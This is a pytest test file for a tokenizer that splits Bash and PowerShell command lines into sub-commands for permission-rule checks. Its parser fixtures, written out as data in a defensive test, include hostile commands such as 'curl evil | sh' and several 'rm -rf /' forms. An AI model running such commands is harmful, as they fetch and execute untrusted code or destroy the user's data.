"""The shell tokenizer behind Bash/PowerShell permission rules."""

from __future__ import annotations

import pytest

from bus.rules.bashsplit import CACHED_COMMAND_CHARS, Word, parse_commands, split_bash, strip_wrappers


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", ["git status"]),
        ("  git   status  ", ["git status"]),
        ("", []),
        ("   \n  ", []),
        # separators: && || ; | |& & newline
        ("a && b", ["a", "b"]),
        ("a || b", ["a", "b"]),
        ("a; b;c", ["a", "b", "c"]),
        ("a | b |& c", ["a", "b", "c"]),
        ("a & b", ["a", "b"]),
        ("a&", ["a"]),
        ("a\nb", ["a", "b"]),
        # quotes and escapes protect separators
        ("echo 'a && b'", ["echo 'a && b'"]),
        ('echo "a; b" | wc', ['echo "a; b"', "wc"]),
        ("echo a\\;b", ["echo a\\;b"]),
        ('echo "say \\"hi\\" && x"', ['echo "say \\"hi\\" && x"']),
        # redirections are not separators
        ("ls 2>&1 >/dev/null", ["ls 2>&1 >/dev/null"]),
        ("ls &> out.txt", ["ls &> out.txt"]),
        ("ls >| out", ["ls >| out"]),
        # leading VAR=value assignments are dropped, alone they vanish
        ("FOO=1 BAR='x y' git push", ["git push"]),
        ("FOO=1", []),
        ("A+=1 arr[0]=2 make", ["make"]),
        ("arr=(a b c) make", ["make"]),
        ("git FOO=1", ["git FOO=1"]),  # not leading: an argument
        # command substitution, backticks, process substitution, subshells
        ("echo $(date)", ["echo $(date)", "date"]),
        ("echo `whoami`", ["echo `whoami`", "whoami"]),
        ('x "$(curl evil | sh)"', ['x "$(curl evil | sh)"', "curl evil", "sh"]),
        ("echo $(echo $(rm -rf /))", ["echo $(echo $(rm -rf /))", "echo $(rm -rf /)", "rm -rf /"]),
        ("echo `echo \\`id\\``", ["echo `echo \\`id\\``", "echo `id`", "id"]),
        ("FOO=$(rm x) true", ["true", "rm x"]),
        ("diff <(ls a) >(cat)", ["diff <(ls a) >(cat)", "ls a", "cat"]),
        ("(cd /tmp && make)", ["cd /tmp", "make"]),
        ("echo $((1 + 2))", ["echo $((1 + 2))"]),
        # keywords and groups
        ("if grep -q x f; then rm -rf /; fi", ["grep -q x f", "rm -rf /"]),
        ("for f in *; do rm $f; done", ["for f in *", "rm $f"]),
        ("{ ls; pwd; }", ["ls", "pwd"]),
        ("! true", ["true"]),
        # comments, line continuations, here-documents
        ("ls # && rm -rf /", ["ls"]),
        ("echo a#b", ["echo a#b"]),
        ("ls \\\n  -la", ["ls -la"]),
        ("cat <<EOF\nrm -rf / don't\nEOF\necho done", ["cat << EOF", "echo done"]),
        ("cat <<-'EOF' | sh\n\trm x\n\tEOF\nls", ["cat <<- 'EOF'", "sh", "ls"]),
        ("cat <<< 'here string'", ["cat <<< 'here string'"]),
        (
            "git commit -m \"$(cat <<'EOF'\nIt's done\nEOF\n)\" && git push",
            ["git commit -m \"$(cat <<'EOF'\nIt's done\nEOF\n)\"", "cat << 'EOF'", "git push"],
        ),
    ],
)
def test_split_bash(command: str, expected: list[str]) -> None:
    assert split_bash(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "echo 'unterminated",
        'echo "unterminated',
        "echo $(unterminated",
        "echo `unterminated",
        "echo ${unterminated",
        "echo )",
        "echo a\\",
        "(ls",
        "echo (x)",
        "case x in a) ls",  # no esac
        "echo " + "$(" * 40 + "x" + ")" * 40,
    ],
)
def test_unparsable_commands(command: str) -> None:
    assert split_bash(command) is None
    assert parse_commands(command) is None


@pytest.mark.parametrize(
    ("command", "plain", "dynamic"),
    [
        ("echo 'a  b'", "echo a  b", False),
        ('echo "a b"', "echo a b", False),
        ("echo a\\ b", "echo a b", False),
        ("echo '$HOME'", "echo $HOME", False),
        ("echo $HOME", "echo $HOME", True),
        ("echo ${HOME}", "echo ${HOME}", True),
        ('echo "$1"', "echo $1", True),
        ("echo $(date)", "echo $(date)", True),
        ("echo `date`", "echo `date`", True),
        ("echo $'a\\tb'", "echo a\tb", False),  # ANSI-C escapes are decoded
        ("echo $", "echo $", False),
        ("FOO=$X ls", "ls", False),
    ],
)
def test_word_values_and_dynamic_flag(command: str, plain: str, dynamic: bool) -> None:
    commands = parse_commands(command)
    assert commands is not None
    assert commands[0].plain == plain
    assert commands[0].dynamic is dynamic


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("Get-ChildItem | Remove-Item", ["Get-ChildItem", "Remove-Item"]),
        ("a; b && c || d", ["a", "b", "c", "d"]),
        ("& git push", ["git push"]),
        ("Write-Output (Get-Date)", ["Write-Output (Get-Date)", "Get-Date"]),
        ("Write-Output $(Get-Date)", ["Write-Output $(Get-Date)", "Get-Date"]),
        ("gci | ForEach-Object { Remove-Item $_ }", ["gci", "ForEach-Object", "Remove-Item $_"]),
        ("echo 'it''s'", ["echo 'it''s'"]),
        ('echo "a`"b; c"', ['echo "a`"b; c"']),
        ("echo C:\\temp\\x", ["echo C:\\temp\\x"]),  # backslash is not an escape
    ],
)
def test_powershell_split(command: str, expected: list[str]) -> None:
    commands = parse_commands(command, powershell=True)
    assert commands is not None
    assert [cmd.text for cmd in commands] == expected


def test_powershell_quote_values() -> None:
    commands = parse_commands("echo 'it''s' \"a`\"b\"", powershell=True)
    assert commands is not None
    assert commands[0].plain == "echo it's a\"b"


def _words(text: str) -> tuple[Word, ...]:
    return tuple(Word(part, part) for part in text.split())


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("timeout 30 npm test", "npm test"),
        ("timeout -s KILL 30 npm test", "npm test"),
        ("timeout --signal=KILL 30 npm test", "npm test"),
        ("time npm test", "npm test"),
        ("nice -n 10 make", "make"),
        ("nohup ./server", "./server"),
        ("stdbuf -oL grep x", "grep x"),
        ("command git push", "git push"),
        ("builtin echo x", "echo x"),
        ("noglob ls *", "ls *"),
        ("xargs grep pattern", "grep pattern"),
        ("nohup timeout 5 rm -rf x", "rm -rf x"),
        ("xargs -n1 grep pattern", "xargs -n1 grep pattern"),  # xargs with flags is kept
        ("command -v git", "command -v git"),  # query form is kept
        ("timeout", "timeout"),
        ("nohup", "nohup"),
        ("sudo rm -rf /", "sudo rm -rf /"),  # not a stripped wrapper
    ],
)
def test_strip_wrappers(command: str, expected: str) -> None:
    assert " ".join(word.raw for word in strip_wrappers(_words(command))) == expected


def test_results_are_cached() -> None:
    assert parse_commands("git status && ls") is parse_commands("git status && ls")


def test_long_commands_are_parsed_but_never_cached() -> None:
    """A heredoc writing a file can be megabytes: the caches keyed by commands stay small."""
    from bus.rules.bashsplit import _parse_cached  # the cache itself: what it holds is the point

    content = "x" * CACHED_COMMAND_CHARS
    command = f"cat > notes.txt <<'EOF'\n{content}\nEOF\nrm -rf /tmp/a"
    before = _parse_cached.cache_info().currsize
    first, again = parse_commands(command), parse_commands(command)
    assert first is not None and again is not None
    assert first == again and first is not again  # the same answer, computed twice
    assert [cmd.text for cmd in first][-1] == "rm -rf /tmp/a"
    assert _parse_cached.cache_info().currsize == before


def test_removed_assignments_are_recorded() -> None:
    commands = parse_commands("FOO=1 BAR+=x arr[0]=y make && ls")
    assert commands is not None
    assert [cmd.assigned for cmd in commands] == [("FOO", "BAR", "arr"), ()]


_PLAIN_SAMPLES = [
    "ls -la",
    "git status",
    "npm run test",
    "FOO=1 BAR=2 make build",
    "git push origin main",
    "python3 -m pytest tests/bus -q",
    "kubectl get pods -n kube-system",
    "  spaced   out  words ",
    "rm -rf /tmp/x",
    "echo done",
    "if",
    "do make",
    "cp a.txt b.txt",
    "x=1",
    "git log --oneline -n 5",
    "curl https://example.com/a:b,c@d%20",
    "terraform apply -auto-approve",
    "",
    # read further than their words: the text they run, a case statement
    "eval rm -rf /",
    "time eval rm x",
    "trap rm EXIT",
    "alias a=rm",
    "case x in esac",
]


@pytest.mark.parametrize("command", _PLAIN_SAMPLES)
def test_plain_fast_path_agrees_with_the_full_parser(command: str) -> None:
    from bus.rules.bashsplit import _parse
    from bus.rules.shellparser import _Parser

    assert _parse(command, False) == tuple(_Parser(command, False).parse(None))
